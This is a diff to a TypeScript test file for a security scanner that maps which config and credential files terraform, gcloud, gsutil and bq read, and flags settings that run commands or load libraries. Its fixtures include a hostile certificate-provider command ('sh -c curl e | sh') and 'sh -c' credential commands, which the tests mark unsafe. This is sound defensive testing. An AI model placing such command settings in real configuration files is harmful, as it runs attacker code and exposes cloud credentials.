@@ -330,8 +330,8 @@ test('D8 round 13 npmrc: script-shell, shell, git, editor and node-options with 
 
 test('D8 round 13 the table: terraform/tofu, docker, psql and npm read their files and the variables naming others', () => {
   const home = '/home/a';
-  assert.deepEqual(configFilesOf('tofu', {}, home).filter((f) => f.format !== 'program_folder' && f.format !== 'google_credentials').map((f) => f.path), ['/home/a/.aws/config', '/home/a/.aws/credentials', '/home/a/.terraformrc', '/home/a/.tofurc', '/home/a/.config/opentofu/tofurc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/home/a/.config/opentofu/*.tfrc', '/home/a/.config/opentofu/*.tfrc.json']);
-  assert.deepEqual(configFilesOf('terraform', { TF_CLI_CONFIG_FILE: '/etc/tf.rc', XDG_CONFIG_HOME: '/x' }, home).filter((f) => f.format !== 'program_folder' && f.format !== 'google_credentials').map((f) => f.path).slice(2), ['/etc/tf.rc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/x/opentofu/*.tfrc', '/x/opentofu/*.tfrc.json']);
+  assert.deepEqual(configFilesOf('tofu', {}, home).filter((f) => f.format !== 'program_folder' && f.format !== 'google_credentials' && f.format !== 'mtls_config').map((f) => f.path), ['/home/a/.aws/config', '/home/a/.aws/credentials', '/home/a/.terraformrc', '/home/a/.tofurc', '/home/a/.config/opentofu/tofurc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/home/a/.config/opentofu/*.tfrc', '/home/a/.config/opentofu/*.tfrc.json']);
+  assert.deepEqual(configFilesOf('terraform', { TF_CLI_CONFIG_FILE: '/etc/tf.rc', XDG_CONFIG_HOME: '/x' }, home).filter((f) => f.format !== 'program_folder' && f.format !== 'google_credentials' && f.format !== 'mtls_config').map((f) => f.path).slice(2), ['/etc/tf.rc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/x/opentofu/*.tfrc', '/x/opentofu/*.tfrc.json']);
   assert.deepEqual(configFilesOf('docker', { DOCKER_CONFIG: '~/d/' }, home).filter((f) => f.format === 'docker').map((f) => [f.path, f.via]), [['/home/a/d/config.json', 'DOCKER_CONFIG=~/d/']]);
   assert.deepEqual(configFilesOf('psql', { PGSYSCONFDIR: '/etc/pg' }, home).map((f) => f.path), ['/etc/pg/psqlrc', '/etc/pg/psqlrc-*', '/home/a/.psqlrc', '/home/a/.psqlrc-*']);
   assert.deepEqual(configFilesOf('npx', { NPM_CONFIG_USERCONFIG: '/etc/npmrc' }, home, '/home/a/app').filter((f) => f.format === 'npmrc').map((f) => f.path), ['/home/a/app/.npmrc', '/home/a/.npmrc', '/home/.npmrc', '/.npmrc', '/etc/npmrc']);
@@ -477,15 +477,16 @@ test('D8 round 19 the table: gcloud, gsutil and bq read their configurations, a 
   const home = '/home/a';
   const of = (program: string, env: Record<string, string> = {}) => configFilesOf(program, env, home, '/home/a/app').map((f) => [f.path, f.format, f.writtenOnly ?? false]);
   for (const program of ['gcloud', 'gsutil', 'bq']) {
-    // (round 20: gsutil also reads its boto files)
-    assert.deepEqual(of(program).filter(([, f]) => f !== 'boto'), [
+    // (round 20: gsutil also reads its boto files; round 21: the three read the client-certificate files, bq its flags
+    // file and credential cache: listed in round 21's test)
+    assert.deepEqual(of(program).filter(([p, f]) => f !== 'boto' && f !== 'mtls_config' && f !== 'bigqueryrc' && p !== '/home/a/.bigquery.v2.token'), [
       ['/home/a/.config/gcloud/configurations/config_*', 'gcloud_config', false],
       ['/home/a/.config/gcloud/credentials.db', 'credential_store', true],
       ['/home/a/.config/gcloud/access_tokens.db', 'credential_store', true],
       ['/home/a/.config/gcloud/legacy_credentials', 'credential_store', true],
     ], program);
   }
-  assert.deepEqual(of('gcloud', { CLOUDSDK_CONFIG: '/g' }).map(([p]) => p), ['/g/configurations/config_*', '/g/credentials.db', '/g/access_tokens.db', '/g/legacy_credentials']);
+  assert.deepEqual(of('gcloud', { CLOUDSDK_CONFIG: '/g' }).filter(([, f]) => f !== 'mtls_config').map(([p]) => p), ['/g/configurations/config_*', '/g/credentials.db', '/g/access_tokens.db', '/g/legacy_credentials']);
   assert.deepEqual(of('bq', { CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE: '/k.json' })[0], ['/k.json', 'google_credentials', false]);
 });
 
@@ -550,4 +551,53 @@ test('D8 round 20 the boto reader: plugin folder, certificate command, STET bina
   // benign neighbours: gsutil's own settings, credentials that run nothing, endpoints and a proxy (not judged: data)
   assert.deepEqual(readConfig('boto', '[Credentials]\ngs_oauth2_refresh_token = r\ngs_service_key_file = /home/a/sa.json\ngs_json_host = storage.example.com\n[Boto]\nproxy = p\nhttps_validate_certificates = True\n[GSUtil]\ndefault_project_id = p\nparallel_thread_count = 4\n[OAuth2]\n'), { ok: true, settings: [], includes: [], includesAs: 'google_credentials' });
   assert.match(String(keys(readConfig('boto', 'plugin_directory = /x\n'))), /outside any section/);
+});
+
+test('D8 round 21 the table: bq reads its flags file (`--bigqueryrc`, else BIGQUERYRC, else `~/.bigqueryrc`) and credential cache; gcloud, gsutil, bq and Google\'s client libraries read the client-certificate files', () => {
+  const of = (program: string, env: Record<string, string> = {}) => configFilesOf(program, env, '/home/a', '/home/a/app').map((f) => [f.path, f.format]);
+  const bq = (env: Record<string, string> = {}) => of('bq', env).filter(([, f]) => f === 'bigqueryrc' || f === 'google_credentials');
+  assert.deepEqual(bq(), [['/home/a/.bigqueryrc', 'bigqueryrc'], ['/home/a/.bigquery.v2.token', 'google_credentials']]);
+  assert.deepEqual(bq({ BIGQUERYRC: '/tmp/rc' })[0], ['/tmp/rc', 'bigqueryrc']);
+  assert.deepEqual(bq({ BIGQUERYRC: '/tmp/rc', 'bq --bigqueryrc': '/tmp/flag' })[0], ['/tmp/flag', 'bigqueryrc']);
+  assert.deepEqual(bq({ 'bq --credential_file': '/tmp/k.json' }).filter(([p]) => p === '/tmp/k.json'), [['/tmp/k.json', 'google_credentials']]);
+  const mtls = (program: string, env: Record<string, string> = {}) => of(program, env).filter(([, f]) => f === 'mtls_config').map(([p]) => p);
+  for (const program of ['gcloud', 'gsutil', 'bq']) {
+    assert.deepEqual(mtls(program), ['/home/a/.config/gcloud/certificate_config.json', '/home/a/.secureConnect/context_aware_metadata.json', '/home/a/.config/gcloud/certificate_config.json', '/home/a/.secureConnect/context_aware_metadata.json'], program);
+  }
+  assert.deepEqual(mtls('gcloud', { CLOUDSDK_CONFIG: '/g', CLOUDSDK_CONTEXT_AWARE_AUTO_DISCOVERY_FILE_PATH: '/m.json', 'gcloud config set context_aware': '/s.json', GOOGLE_API_CERTIFICATE_CONFIG: '/c.json' }), ['/g/certificate_config.json', '/m.json', '/s.json', '/c.json', '/home/a/.secureConnect/context_aware_metadata.json']);
+  assert.deepEqual(mtls('terraform'), ['/home/a/.config/gcloud/certificate_config.json', '/home/a/.secureConnect/context_aware_metadata.json']);
+  // benign neighbours: tools that reach no Google API read none
+  assert.deepEqual([...mtls('kubectl'), ...mtls('aws')], []);
+});
+
+test('D8 round 21 the readers: bq\'s flags file names credential files (absolute: read as Google credential files; else code), in any section; the client-certificate files\' command, ECP program and libraries', () => {
+  const rc = readConfig('bigqueryrc', '--project_id=p\nformat = prettyjson\n--nouse_google_auth\napplication_default_credential_file = /home/a/k.json\n\n[query]\n--use_legacy_sql=false\n# credential_file = x\n--credential_file=/home/a/.bigquery.v2.token\n');
+  assert.ok(rc.ok);
+  assert.deepEqual([rc.includes, rc.includesAs, rc.settings], [['/home/a/k.json', '/home/a/.bigquery.v2.token'], 'google_credentials', []]);
+  assert.deepEqual(keys(readConfig('bigqueryrc', '[ls]\nservice_account_credential_file = c.json\n')), ['[ls] service_account_credential_file']);
+  // benign neighbours: endpoints, transport, a token, a switch, flag files bq does not follow from there (data)
+  assert.deepEqual(readConfig('bigqueryrc', 'api = https://bq.example.com\nca_certificates_file = /tmp/ca\nproxy_address = p\noauth_access_token = t\nmtls\nflagfile = /tmp/f\nbigqueryrc = /tmp/rc\ndiscovery_file = /tmp/d.json\n'), { ok: true, settings: [], includes: [], includesAs: 'google_credentials' });
+  // bq's credential cache: each credential serialised as a JSON string, read as the object it is
+  const cache = JSON.stringify({ file_version: 2, credentials: { scopes: JSON.stringify({ _module: 'wrapped_credentials', _base: { type: 'external_account', credential_source: { executable: { command: 'sh -c x' } } } }) } });
+  assert.deepEqual(keys(readConfig('google_credentials', cache)), ['credentials.scopes._base.credential_source.executable.command']);
+  assert.deepEqual(keys(readConfig('google_credentials', JSON.stringify({ file_version: 2, credentials: { scopes: JSON.stringify({ _module: 'oauth2client_4_0.client', refresh_token: 'r' }) } }))), []);
+  // the client-certificate files
+  const meta = readConfig('mtls_config', JSON.stringify({ cert_provider_command: ['/usr/local/bin/helper', '--print_certificate'] }));
+  assert.ok(meta.ok);
+  assert.deepEqual(judgeSetting(meta.settings[0]!, '/home/a', '/home/a'), { safe: true, program: '/usr/local/bin/helper', kind: 'program' });
+  const evil = readConfig('mtls_config', JSON.stringify({ cert_provider_command: ['sh', '-c', 'curl e | sh'] }));
+  assert.ok(evil.ok && !judgeSetting(evil.settings[0]!, '/home/a', '/home/a').safe);
+  assert.deepEqual(keys(readConfig('mtls_config', JSON.stringify({ cert_provider_command: 'sh -c x' }))), ['cert_provider_command']);
+  const ecp = readConfig('mtls_config', JSON.stringify({ cert_configs: { workload: { cert_path: '/c', key_path: '/k' } }, libs: { ecp: '/home/a/ecp', ecp_client: '/home/a/libecp.so', tls_offload: 'lib.so' } }));
+  assert.ok(ecp.ok);
+  assert.deepEqual(ecp.settings.map((s) => judgeSetting(s, '/home/a', '/home/a')), [{ safe: true, program: '/home/a/ecp', kind: 'program' }, { safe: true, program: '/home/a/libecp.so', kind: 'file' }, { safe: false, why: 'loads `lib.so`, a library at a path relative to the working folder' }]);
+  assert.match(String(keys(readConfig('mtls_config', '[1]'))), /not a JSON object/);
+  // benign neighbour: workload certificate paths only (data)
+  assert.deepEqual(keys(readConfig('mtls_config', JSON.stringify({ cert_configs: { workload: { cert_path: '/c', key_path: '/k' } } }))), []);
+  // a gcloud configuration names them too: followed as client-certificate files
+  const conf = readConfig('gcloud_config', '[context_aware]\nuse_client_certificate = true\ncertificate_config_file_path = /home/a/c.json\nauto_discovery_file_path = m.json\n');
+  assert.ok(conf.ok);
+  assert.deepEqual([conf.includes, [...(conf.includedAs ?? [])], conf.settings.map((s) => s.key)], [['/home/a/c.json'], [['/home/a/c.json', 'mtls_config']], ['[context_aware] auto_discovery_file_path']]);
+  // one file named as two kinds: not judged (code)
+  assert.deepEqual(keys(readConfig('gcloud_config', '[auth]\ncredential_file_override = /k.json\n[context_aware]\nauto_discovery_file_path = /k.json\n')), ['[context_aware] auto_discovery_file_path']);
 });
